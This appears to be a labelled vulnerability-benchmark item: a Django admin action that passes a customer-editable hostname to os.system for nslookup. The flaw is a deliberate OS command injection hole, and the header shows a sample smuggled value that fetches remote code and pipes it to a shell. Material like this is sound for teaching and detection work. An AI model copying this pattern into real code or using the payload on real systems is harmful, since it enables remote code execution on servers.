# ---
# id: cwe78-admin-nslookup-v
# cwe: CWE-78
# vulnerable: true
# twin: cwe78-admin-nslookup-f
# tags: django, os
# explanation: A Django admin action checks DNS for selected customer endpoints by running nslookup through os.system. The hostname field is edited by customers in their own portal, so a stored value like "x.com;wget -qO- h/s|sh" executes when staff run the action.
# ---
import os

from django.contrib import admin, messages

from endpoints.models import Endpoint


@admin.action(description="Check DNS resolution")
def check_dns(modeladmin, request, queryset):
    failed = []
    for endpoint in queryset:
        status = os.system("nslookup -timeout=3 %s >/dev/null 2>&1" % endpoint.hostname)  #@vuln
        if status != 0:
            failed.append(endpoint.hostname)
    if failed:
        modeladmin.message_user(request, "Unresolved: " + ", ".join(failed), level=messages.WARNING)
    else:
        modeladmin.message_user(request, "All selected endpoints resolve.")


@admin.register(Endpoint)
class EndpointAdmin(admin.ModelAdmin):
    list_display = ("customer", "hostname", "created")
    actions = [check_dns]
